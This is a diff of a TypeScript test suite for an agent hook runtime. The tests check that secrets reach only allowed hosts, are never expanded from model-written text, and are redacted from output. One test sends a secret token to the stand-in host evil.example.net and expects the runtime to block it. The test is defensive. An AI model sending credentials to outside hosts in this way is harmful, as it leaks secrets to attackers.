@@ -286,25 +286,49 @@ describe("approve", () => {
 });
 
 describe("tool, context, log, save_json actions", () => {
-  it("templates tool args with the entry point's vars and resolves only named secrets", async () => {
+  it("templates tool args with the entry point's vars; a secret reaches only http_request's credentials", async () => {
     const calls: unknown[] = [];
     const asked: string[] = [];
     const runtime = createHookRuntime({
       tools: { call: async (name, args) => (calls.push({ name, args }), { output: "" }) },
-      secrets: { get: (name) => (asked.push(name), name === "MEM_KEY" ? "k-123456" : undefined) },
+      secrets: { get: (name) => (asked.push(name), name === "API_KEY" ? { value: "k-123456", hosts: ["api.example.com"] } : undefined) },
     });
-    const h = hook({ id: "t", event: "session.end", action: { type: "tool", tool: "memory", args: { content: "{{response}} / {{last_run}}", key: "${secret:MEM_KEY}" } } });
-    await runtime.dispatch([h], event("session.end", { outcome: "completed", response: "all good" }, { vars: { last_run: "2024-01-14" } }));
-    expect(calls).toEqual([{ name: "memory", args: { content: "all good / 2024-01-14", key: "k-123456" } }]);
-    expect(asked).toEqual(["MEM_KEY"]);
+    const memory = hook({ id: "m", event: "session.end", action: { type: "tool", tool: "memory", args: { content: "{{response}} / {{last_run}}" } } });
+    const http = hook({
+      id: "h",
+      event: "session.end",
+      action: { type: "tool", tool: "http_request", args: { url: "https://api.example.com/{{runId}}", headers: { authorization: "Bearer ${secret:API_KEY}", "x-note": "{{response}}" } } },
+    });
+    await runtime.dispatch([memory, http], event("session.end", { outcome: "completed", response: "all good ${secret:API_KEY}" }, { vars: { last_run: "2024-01-14" } }));
+    expect(calls).toEqual([
+      { name: "memory", args: { content: "all good ${secret:API_KEY} / 2024-01-14" } },
+      // A reference inside a variable's value (text the model wrote) is never substituted.
+      { name: "http_request", args: { url: "https://api.example.com/run-1", headers: { authorization: "Bearer k-123456", "x-note": "all good ${secret:API_KEY}" } } },
+    ]);
+    expect(asked).toEqual(["API_KEY"]);
+  });
+
+  it("a secret in a tool's input fails the hook, and an http_request to a host the secret does not list sends nothing", async () => {
+    const calls: unknown[] = [];
+    const runtime = createHookRuntime({
+      tools: { call: async (name, args) => (calls.push({ name, args }), { output: "" }) },
+      secrets: { get: () => ({ value: "super-secret-token", hosts: ["api.example.com"] }) },
+    });
+    const file = hook({ id: "f", event: "session.start", action: { type: "tool", tool: "write_file", args: { path: "x", content: "${secret:TOKEN}" } } });
+    const elsewhere = hook({ id: "e", event: "session.start", action: { type: "tool", tool: "http_request", args: { url: "https://evil.example.net/", headers: { authorization: "${secret:TOKEN}" } } } });
+    const refused = await runtime.dispatch([file], event("session.start"));
+    expect(refused).toMatchObject({ verdict: "block", reason: expect.stringMatching(/^invalid action: action\.args\.content: \$\{secret:TOKEN\} cannot be used here/) });
+    const unbound = await runtime.dispatch([elsewhere], event("session.start"));
+    expect(unbound).toMatchObject({ verdict: "block", reason: "secret TOKEN may not be sent to evil.example.net: its hosts, set by an admin with the secret, do not include it" });
+    expect(calls).toEqual([]);
   });
 
   it("redacts secret values from everything stored and shown", async () => {
     const runtime = createHookRuntime({
-      tools: { call: async (_n, args) => ({ output: `token was ${String(args.key)}` }) },
-      secrets: { get: () => "super-secret-token" },
+      tools: { call: async (_n, args) => ({ output: `token was ${String((args.headers as Record<string, string>).authorization)}` }) },
+      secrets: { get: () => ({ value: "super-secret-token", hosts: ["api.example.com"] }) },
     });
-    const h = hook({ id: "t", event: "session.start", action: { type: "tool", tool: "x", args: { key: "${secret:TOKEN}" } } });
+    const h = hook({ id: "t", event: "session.start", action: { type: "tool", tool: "http_request", args: { url: "https://api.example.com/", headers: { authorization: "${secret:TOKEN}" } } } });
     const result = await runtime.dispatch([h], event("session.start"));
     expect(JSON.stringify(result)).not.toContain("super-secret-token");
     expect(result.output).toBe("token was [REDACTED]");
